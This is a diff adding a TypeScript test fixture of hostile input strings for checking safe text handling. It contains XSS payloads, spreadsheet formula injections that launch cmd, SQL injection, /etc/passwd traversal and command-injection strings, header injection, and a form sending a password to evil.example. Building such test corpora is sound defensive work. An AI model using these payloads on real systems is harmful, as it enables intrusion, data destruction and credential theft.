@@ -1,0 +1,78 @@
+/** Texts that somebody may type or send to make a page, a spreadsheet, a log or a database do something. */
+
+/** What every script of the corpus would leave on `globalThis`; a test looks for it. */
+export const PLANTED = "asayuOwned";
+
+const run = `globalThis.${PLANTED}=1`;
+
+/** Fit to be kept letter by letter, and short enough for a title. */
+export const keptTexts: Readonly<Record<string, string>> = {
+  script: `<script>${run}</script>`,
+  scriptInCase: `<ScRiPt>${run}</sCrIpT>`,
+  closesTitle: `</title><script>${run}</script>`,
+  closesScript: `</script><script>${run}</script>`,
+  closesTextArea: `</textarea><img src=x onerror=${run}>`,
+  breaksOutOfAttribute: `"'><img src=x onerror="${run}">`,
+  eventWithoutQuotes: `x onmouseover=${run} autofocus onfocus=${run}`,
+  svgEvent: `<svg onload=${run}>`,
+  svgScript: `<svg><script>${run}</script></svg>`,
+  svgAnimation: `<svg><animate onbegin=${run} attributeName=x></svg>`,
+  mathAndStyle: `<math><mtext><style><img src=x onerror=${run}></style>`,
+  frameWithPage: `<iframe srcdoc="<script>parent.${PLANTED}=1</script>">`,
+  frameWithAddress: `<iframe src="javascript:parent.${PLANTED}=1">`,
+  objectWithData: `<object data="data:text/html,<script>${run}</script>">`,
+  detailsToggle: `<details open ontoggle=${run}>`,
+  videoError: `<video><source onerror=${run}></video>`,
+  metaRefresh: `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
+  otherBase: '<base href="https://evil.example/">',
+  styleImport: '<style>@import "https://evil.example/x.css";</style>',
+  formAway: '<form action="https://evil.example"><input name=p type=password>',
+  entities: `&lt;script&gt;${run}&lt;/script&gt;`,
+  doubleEntities: `&amp;lt;img src=x onerror=${run}&amp;gt;`,
+  markdownLink: `[開く](javascript:${run})`,
+  markdownImage: "![絵](https://evil.example/pixel.png)",
+  markdownPage: `# 見出し\n- [ ] **太字** <b onclick=${run}>`,
+  autoLink: `<javascript:${run}>`,
+  scriptAddress: `javascript:${run}//`,
+  scriptAddressHidden: `java\tscript:${run}`,
+  dataAddress: `data:text/html,<script>${run}</script>`,
+  templateBraces: `{{constructor.constructor("${run}")()}}`,
+  templateDollar: `$\{${run}}#{${run}}`,
+  messageSyntax: "{count, plural, other {<b>#</b>}} {0} '{'",
+  formulaEquals: '=HYPERLINK("https://evil.example","開く")',
+  formulaPlus: "+1+1",
+  formulaMinus: "-2+3+cmd|' /C calc'!A0",
+  formulaAt: "@SUM(1+1)*cmd|' /C calc'!A0",
+  formulaTab: "\t=1+1",
+  formulaReturn: "\r=1+1",
+  formulaWide: "＝1＋1",
+  breaksOutOfCell: `"\r\n=cmd|' /C calc'!A0,"`,
+  sql: "'; DROP TABLE record; --",
+  sqlTrue: "' OR '1'='1",
+  path: "../../../../etc/passwd",
+  pathInAddress: "..%2f..%2fdata%2fasayu.db",
+  command: "; cat /etc/passwd | $(id) `id`",
+  headerLines: "x\r\nSet-Cookie: asayu.session_token=owned",
+  format: "%s%n%x %00",
+  regular: "(a+)+$",
+  prototype: "__proto__",
+  inherited: "constructor",
+  rightToLeft: "請求\u202efdp.exe\u2066\u2067",
+  zeroWidth: "消\u200b費\u200c税\u200d\ufeff",
+  lineSeparators: "一行目\u2028二行目\u2029三行目\u0085",
+  terminal: "\u001b[31m赤\u001b]0;title\u0007",
+  control: "\u0001\u0008\u007f",
+  stacked: `か${"\u3099\u0301".repeat(20)}`,
+  decomposed: "か\u3099き\u3099 Å Å ﬁ ①",
+  beyondPlane: "👩‍👩‍👧‍👦 𠮷野家 𩸽 󠄀",
+  numberLike: "1e999",
+  onlySpace: "\u3000 \u00a0",
+};
+
+/** What no store could give back as it came. */
+export const unfitTexts: Readonly<Record<string, string>> = {
+  loneHighSurrogate: "件名\ud800",
+  loneLowSurrogate: "\udc00件名",
+  nul: "件名\u0000",
+  long: "あ".repeat(100_000),
+};
